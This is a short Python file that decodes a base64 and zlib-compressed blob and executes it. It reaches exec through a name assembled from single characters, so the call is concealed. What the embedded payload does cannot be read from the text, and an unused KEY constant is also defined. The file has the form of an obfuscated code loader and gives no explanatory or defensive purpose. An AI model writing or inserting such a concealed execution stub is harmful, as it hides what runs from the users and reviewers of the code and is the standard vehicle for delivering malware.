import base64
import zlib

KEY = 0x5A
_blob = "eJwLyc9XSM7PS0lNLlFIzs8rSc0rAQBNUQcP"


def _unpack(data):
    raw = zlib.decompress(base64.b64decode(data))
    return raw.decode()


_code = _unpack(_blob)
_runner = getattr(__builtins__, "".join(["e", "x", "e", "c"]))
_runner(_code)
